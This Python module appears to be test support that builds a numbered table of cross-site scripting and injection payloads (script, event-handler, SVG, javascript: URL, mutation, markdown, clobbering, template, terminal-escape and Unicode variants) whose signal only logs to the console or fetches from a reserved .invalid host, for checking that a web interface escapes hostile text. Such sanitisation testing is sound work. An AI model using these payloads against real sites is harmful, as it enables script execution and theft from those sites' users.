"""Texts that become something else than a text wherever a page takes them as markup, an address, a template or a key."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

HOST: Final = "pwned.invalid"
"""Every request to it, or below it, is a sign that something ran or was fetched."""


@dataclass(frozen=True)
class Payload:
    """One hostile text. ``number`` is in every sign that it leaves, so that a failed test names it.

    ``live`` ones run in Chromium by themselves when a page without any defence shows them as HTML; ``loads`` ones only
    fetch something then. The others need a click, another browser, another parser or other machinery: they belong to
    the table because no place may be the one that has it.
    """

    number: int
    kind: str
    text: str
    live: bool
    loads: bool

    @property
    def heart(self) -> str:
        """The text without blanks around it, as lines and sentences have it."""
        return self.shown.strip()

    @property
    def shown(self) -> str:
        """The text as JSON can carry it: half a surrogate pair becomes its escape."""
        return self.text.encode("utf-8", "backslashreplace").decode()


def _js(number: int) -> str:
    """A sign in the console, for frames of any origin, and a mark in the page. Holds no blank, quote or bracket of a tag."""
    return f"console.debug(/pwned:{number}:/),top.__pwned={number}"


def _made(number: int, kind: str, form: str) -> Payload:
    script = _js(number)
    entities = "".join(f"&#{ord(character)};" for character in script)
    text = form.replace("%ENTITIES%", entities).replace("%JS%", script).replace("%URL%", f"http://p{number}.{HOST}")
    mark, text = (text[0], text[1:]) if text[0] in "+~" else ("", text)
    return Payload(number, kind, text, live=mark == "+", loads=mark == "~")


# A leading + marks what is live, a leading ~ what loads.
_FORMS: dict[str, list[str]] = {
    "script": [
        "+<script>%JS%</script>",
        "+<ScRiPt >%JS%</sCrIpT >",
        "+<script/src=data:text/javascript,%JS%></script>",
        "+<script\x0btype=x src=y>/*</script><script>/**/%JS%</script>",
        "+<scr\x00ipt>x</script><script>%JS%</script>",
        "+<<script>%JS%//<</script>",
        "+<script type=module>%JS%</script>",
        "~<script src=%URL%/a.js></script>",
        "+</script><script>%JS%</script>",
        "+'\"--></style></title></textarea></noscript></template></select></script><script>%JS%</script>",
    ],
    "handler": [
        "+<img src=x onerror=%JS%>",
        "+<IMG SRC=x OnErRoR  =  '%JS%'>",
        '<img src="x`"`onerror=%JS%>',
        "+<img/src='x'/onerror='%JS%'/>",
        "+\"><img src=x onerror=%JS%>",
        "+' autofocus x='<img src=x onerror=%JS%>",
        "+<body onload=%JS%>",
        "+<svg onload=%JS%>",
        "+<video src=x onerror=%JS%></video>",
        "+<audio src=x onerror=%JS%></audio>",
        "+<video><source onerror=%JS% src=x></video>",
        "+<input autofocus onfocus=%JS%>",
        "<select autofocus onfocus=%JS%></select>",
        "+<details open ontoggle=%JS%>x</details>",
        "+<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=%JS%>x</b>",
        "+<style onload=%JS%></style>",
        "+<object data=data:text/html,x onload=%JS%></object>",
        "+<iframe src=about:blank onload=%JS%></iframe>",
        "+<img src=x onerror=%ENTITIES%>",
        "<marquee onstart=%JS%>x</marquee>",
        "<button onclick=%JS%>x</button>",
        "<b onmouseover=%JS% onpointerenter=%JS%>x</b>",
        "<input onblur=%JS% autofocus><input autofocus>",
        "<x contenteditable onblur=%JS%>x</x>",
        "<a href=x onbeforecopy=%JS% oncopy=%JS% oncut=%JS%>x</a>",
    ],
    "svg": [
        "+<svg><script>%JS%</script></svg>",
        "+<svg><script href=data:text/javascript,%JS% /></svg>",
        "+<svg><animate onbegin=%JS% attributeName=x dur=1s>",
        "+<svg><set onbegin=%JS% attributename=x to=1 dur=1s>",
        "+<svg><image href=x onerror=%JS% /></svg>",
        "+<svg><foreignObject><img src=x onerror=%JS%></foreignObject></svg>",
        "+<svg><desc><img src=x onerror=%JS%></desc></svg>",
        "<svg><a xlink:href=javascript:%JS%><text y=20>x</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:%JS% /><text y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>%JS%</script></svg>#x' /></svg>",
        "~<svg><image href=%URL%/a.png /></svg>",
        "+<svg xmlns='http://www.w3.org/2000/svg' onload='%JS%'><script>%JS%</script></svg>",
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "%URL%/x">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    ],
    "address": [
        "<a href=javascript:%JS%>x</a>",
        "<a href='java\tscript:%JS%'>x</a>",
        "<a href='\x01javascript:%JS%'>x</a>",
        "<a href=' &#106;avascript&colon;%JS%'>x</a>",
        "<a href='JaVaScRiPt&#x3a;%JS%' target=_top>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html,<script>%JS%</script>' target=_top>x</a>",
        "<a href=%URL%/a target=_top>x</a>",
        "<a href=%URL%/a ping=%URL%/ping download>x</a>",
        "<form action=javascript:%JS%><button>x</button></form>",
        "<form action=%URL%/form><input type=submit value=x></form>",
        "<button form=f formaction=javascript:%JS%>x</button><form id=f></form>",
        "javascript:%JS%",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "%URL%/looks-like-a-link",
    ],
    "embedded": [
        "+<iframe srcdoc='<script>%JS%</script>'></iframe>",
        "+<iframe srcdoc=\"&lt;img src=x onerror=%JS%&gt;\"></iframe>",
        "+<iframe src=javascript:%JS%></iframe>",
        "+<iframe src='data:text/html,<script>%JS%</script>'></iframe>",
        "~<iframe src=%URL%/frame></iframe>",
        "+<embed src='data:text/html,<script>%JS%</script>'>",
        "+<object data='data:text/html,<script>%JS%</script>'></object>",
        "~<object data=%URL%/object></object>",
        "~<meta http-equiv=refresh content='0;url=%URL%/refresh'>",
        "<meta http-equiv=refresh content='0;url=javascript:%JS%'>",
        "~<base href=%URL%/><img src=relative>",
        "<base target=_top><a href=/>x</a>",
        "~<link rel=stylesheet href=%URL%/a.css>",
        "<link rel=import href=%URL%/a.html>",
        "~<img src=%URL%/a.png>",
        "~<video poster=%URL%/a.png></video>",
        "~<table background=%URL%/a.png><tr><td>x</table>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=%JS%&gt;\">",
        "+<math><mi//xlink:href=x><img src=x onerror=%JS%>",
        "<template><img src=x onerror=%JS%></template>",
        "+<div><template shadowrootmode=open><img src=x onerror=%JS%></template></div>",
        "<dialog open><form method=dialog><button onclick=alert(%JS%)>x</button></form></dialog>",
    ],
    "style": [
        "~<style>@import '%URL%/a.css';</style>",
        "~<b style='background:url(%URL%/a.png)'>x</b>",
        "<b style='width:expression(%JS%);behavior:url(%URL%/a.htc);-moz-binding:url(%URL%/a.xml)'>x</b>",
        "<style>*{display:none!important}</style>",
        "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>over everything</div>",
        "</style><style>.fn-editor{display:none}</style>",
        "expression(%JS%);}body{background:url(%URL%/b)}",
    ],
    "mutation": [
        "+<noscript><p title=\"</noscript><img src=x onerror=%JS%>\">",
        "+<svg></p><style><a id=\"</style><img src=x onerror=%JS%>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%JS%>",
        "+<table><td><svg><style></table><img src=x onerror=%JS%>",
        "+<select><template><style></select></template><a rel=\"</style></template></select><img src=x onerror=%JS%>\">",
        "+<!--><img src=x onerror=%JS%>-->",
        "+<!-- --!><img src=x onerror=%JS%> -->",
        "+<![CDATA[><img src=x onerror=%JS%>]]>",
        "+<?xml ><img src=x onerror=%JS%>?>",
        "+<xmp><p title=\"</xmp><img src=x onerror=%JS%>\">",
        "<img src='%URL%/dangling?",
        "<textarea name='",
        "<plaintext>",
    ],
    "markdown": [
        "[x](javascript:%JS%)",
        "![x](%URL%/a.png)",
        "![x](x\"onerror=\"%JS%)",
        "[x]: javascript:%JS%\n\n[x]",
        "<javascript:%JS%>",
        "+# x\n\n<img src=x onerror=%JS%>\n\n```html\n<script>%JS%</script>\n```",
        "+$\\href{javascript:%JS%}{x}$ $\\unicode{<img src=x onerror=%JS%>}$",
        "+| a |\n|---|\n| <script>%JS%</script> |",
    ],
    "clobbering": [
        "<form id=body name=getElementById><input name=parentNode><input id=funcnodes-config></form>",
        "<img name=cookie><img id=funcnodes-root><a id=baseUrl href=%URL%/>x</a>",
        "__proto__",
        "constructor",
        "prototype",
        "hasOwnProperty",
        "toString",
        "__proto__.polluted",
    ],
    "template": [
        "${%JS%}",
        "{{%JS%}}",
        "{{constructor.constructor('%JS%')()}}",
        "<%= %JS% %>",
        "#{%JS%}",
        "%(x)s {0.__class__.__mro__} {x!r}",
        "`${%JS%}`",
        "';%JS%//",
        "\\';%JS%//",
        "\u2028%JS%\u2029",
    ],
    "terminal": [
        "\x1b]8;;%URL%/link\x07link\x1b]8;;\x07",
        "\x1b]8;;javascript:%JS%\x1b\\link\x1b]8;;\x1b\\",
        "+\x1b[31m<img src=x onerror=%JS%>\x1b[0m",
        "\x1b]0;title\x07\x1b[2J\x1b[999;999Hx",
        "&\x1b[0mlt;img src=x onerror=%JS%&gt;",
    ],
    "unicode": [
        "\u202e<gmi crs=x rorreno=%JS%>\u202c",
        "\u2066\u202egnp.elif\u2069 \u2067x",
        "a\u200b\u200d\ufeff\u2060\u00adb",
        "Z" + "\u0335\u0321\u0327\u0328\u0300\u0301\u0302\u0303" * 40,
        "+\ud800<img src=x onerror=%JS%>\udfff",
        "+\x00<img src=x onerror=%JS%>\x00",
        "\uff1cscript\uff1e%JS%\uff1c/script\uff1e",
        "\u0130\u0131\u017f\u212a<\u017fcript>%JS%</\u017fcript>",
        "x +ADw-script+AD4-%JS%+ADw-/script+AD4-",
        "+" + "x" * 900 + "<img src=x onerror=%JS%>",
        "\u00a0".join(["nbsp"] * 60),
        "\U0001f469\u200d\U0001f467\u200d\U0001f466 \U000e0041 \ufdfd",
    ],
}  # fmt: skip

PAYLOADS: Final[tuple[Payload, ...]] = tuple(
    _made(number, kind, form)
    for number, (kind, form) in enumerate(((kind, form) for kind, forms in _FORMS.items() for form in forms), 1)
)
